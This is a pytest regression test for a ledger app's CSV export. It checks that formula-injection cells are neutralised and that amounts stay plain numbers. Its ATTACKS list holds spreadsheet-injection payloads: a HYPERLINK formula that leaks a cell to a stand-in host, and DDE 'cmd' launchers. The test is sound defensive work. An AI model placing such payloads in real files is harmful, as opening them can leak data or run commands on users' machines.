"""Finding 7: `entries list --csv` wrote `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` cells as
they were, so opening the export in a spreadsheet ran them."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.entries import EntryDraft
from app.domain.money import Money
from app.services.context import open_context
from tests.app.safety.conftest import NAME, PASS, TODAY, Cli, make

ATTACKS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Refund")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           " =1+1", "＝1+1"]


def _export(data_dir: Path, cli: Cli) -> list[list[str]]:
    status, out = cli(data_dir, "entries", "list", "--profile", NAME, "--csv",
                      CARELEDGER_PASSPHRASE=PASS)
    assert status == 0
    return list(csv.reader(io.StringIO(out)))


def _formula(cell: str) -> bool:
    """What a spreadsheet would run: text starting (after spaces) with = + - @ or a control."""
    stripped = cell.lstrip(" ")
    return stripped[:1] in ("=", "+", "@", "\t", "\r", "＝") or (
        stripped.startswith("-") and not stripped.lstrip("-").replace(".", "").isdigit())


def test_formula_cells_are_neutralised_and_money_stays_numbers(data_dir: Path, cli: Cli) -> None:
    make(data_dir)
    with open_context(data_dir, NAME, PASS) as ctx:
        ledger = ctx.ledger
        for n, text in enumerate(ATTACKS):
            ledger.add_entry(EntryDraft(date(2025, 5, 1), Money(-(n + 1) * 1000), text,
                                        "pa_wages", text), TODAY)
    rows = _export(data_dir, cli)
    assert rows[0] == ["id", "date", "payee", "category", "amount", "balance", "memo"]
    for row in rows[1:]:
        assert not any(_formula(cell) for cell in row), row
        assert row[2].startswith("'") and row[6].startswith("'")
        float(row[4]), float(row[5])  # amount and balance: plain numbers
        assert row[4].startswith("-")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@ \t\r1.(),AB\"'|!＝"), max_size=12))
def test_no_text_reaches_a_spreadsheet_as_a_formula(text: str) -> None:
    from app.csv_cells import neutralise

    assert not _formula(neutralise(text)) or text.lstrip("-").replace(".", "").isdigit()


@pytest.mark.parametrize("number", ["-12.50", "0.00", "1,234.56", "42"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    from app.csv_cells import neutralise

    assert neutralise(number) == number
